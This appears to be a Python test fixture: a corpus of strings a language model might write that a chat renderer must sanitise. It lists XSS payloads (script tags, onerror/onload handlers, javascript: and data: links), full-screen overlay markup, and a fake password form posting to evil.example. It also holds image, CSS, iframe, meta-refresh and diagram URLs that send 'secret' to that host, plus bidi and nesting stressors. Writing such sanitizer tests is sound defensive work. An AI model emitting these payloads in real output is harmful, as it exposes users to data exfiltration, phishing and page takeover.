"""What a model may write to take the page over, to send something away, or to lose its reader's text.

Each holds the word SURVIVES, which must stand in the page as text. EVIL is a host that must never be asked.
"""

EVIL = "evil.example"
_IMG = f"http://{EVIL}/a.png?d=secret"

CORPUS = {
    "cover": '<div style="position:fixed;inset:0;z-index:99999;background:red">SURVIVES</div>',
    "cover by a class": '<div class="qs-gone qs-notice" style="inset:0">SURVIVES</div>',
    "style sheet": "<style>body{display:none}@import url(//evil.example/x.css);</style>SURVIVES",
    "form": f'<form action="http://{EVIL}/"><input type="password" name="key"><button>Sign in</button></form>SURVIVES',
    "dialog": '<dialog open style="position:fixed;inset:0">SURVIVES</dialog>',
    "select and text area": "<select><option>x</option></select><textarea rows=99>y</textarea>SURVIVES",
    "script": "SURVIVES<script>window.broken = true</script>",
    "event": 'SURVIVES<img src=x onerror="window.broken = true"><svg onload="window.broken = true">',
    "svg": f'<svg><image href="{_IMG}"/><use href="{_IMG}#x"/></svg>SURVIVES',
    "math element": '<math><mtext><table><mglyph><style><img src=x onerror="window.broken = true">SURVIVES',
    "markdown image": f"![a chart]({_IMG}) SURVIVES",
    "image of a reference": f"![a][b] SURVIVES\n\n[b]: {_IMG}",
    "image in a table": f"| a | b |\n|---|---|\n| ![x]({_IMG}) | SURVIVES |",
    "html image": f'<img src="{_IMG}"> <picture><source srcset="{_IMG}"></picture> SURVIVES',
    "video": f'<video poster="{_IMG}" src="{_IMG}" autoplay></video><audio src="{_IMG}" autoplay></audio>SURVIVES',
    "frames": f'<iframe src="http://{EVIL}"></iframe><object data="{_IMG}"></object><embed src="{_IMG}">SURVIVES',
    "background": f'<p style="background:url({_IMG})">SURVIVES</p><table background="{_IMG}"><tr><td>x</table>',
    "prefetch": f'<link rel="stylesheet" href="{_IMG}"><link rel="prefetch" href="{_IMG}">SURVIVES',
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{EVIL}">SURVIVES',
    "base": f'<base href="http://{EVIL}/">[SURVIVES](x)',
    "script link": "[SURVIVES](javascript:window.broken=true) <javascript:window.broken=true>",
    "data link": "[SURVIVES](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "escaped ticks": '\\`<div style="position:fixed;inset:0">\\` SURVIVES',
    "ticks of two lengths": '``a` <div style="position:fixed;inset:0">` SURVIVES',
    "diagram": f'```mermaid\ngraph TD\nA["<img src={_IMG}>"]-->B["SURVIVES"]\n```',
    "diagram's style": '```mermaid\n%%{init: {"themeCSS": "* {display:none}"}}%%\ngraph TD\nA-->SURVIVES\n```',
    "formula's rule": "SURVIVES $\\smash{\\rule[-50em]{200em}{200em}}$",
    "formula's link": f"SURVIVES $\\href{{javascript:window.broken=true}}{{x}} \\includegraphics{{{_IMG}}}$",
    "formula's style": "SURVIVES $\\htmlStyle{position:fixed;inset:0}{x}$",
    "thinking": '<think><div style="position:fixed;inset:0">hidden</div></think>SURVIVES',
    "closing the fold": '<think>x</details></think></details></div></div><div style="position:fixed;inset:0">SURVIVES',
    "comment": "<!-- SURVIVES --> <!-- > --> <?x ?> <![CDATA[y]]>",
    "comparison": "if a<b and c>d: SURVIVES",
    "generic": "a List<String> of Map<K, V> SURVIVES",
    "prices": "it costs $5 and SURVIVES $6",
    "placeholder": "%%%LATEX_BLOCK_0%%% SURVIVES",
    "template": "${value} {{ value }} SURVIVES",
    "private characters": "\ue000x\ue001 \ue002SURVIVES\ue003",
    "nested": "> " * 500 + "SURVIVES",
    "right to left": "\u202e \u2067 SURVIVES",
    "combining": "SURVIVES Z" + "\u0300\u0301\u0302" * 200,
    "one long word": "SURVIVES" + "W" * 5000,
    "deep list": "\n".join("  " * depth + "- SURVIVES" for depth in range(80)),
}
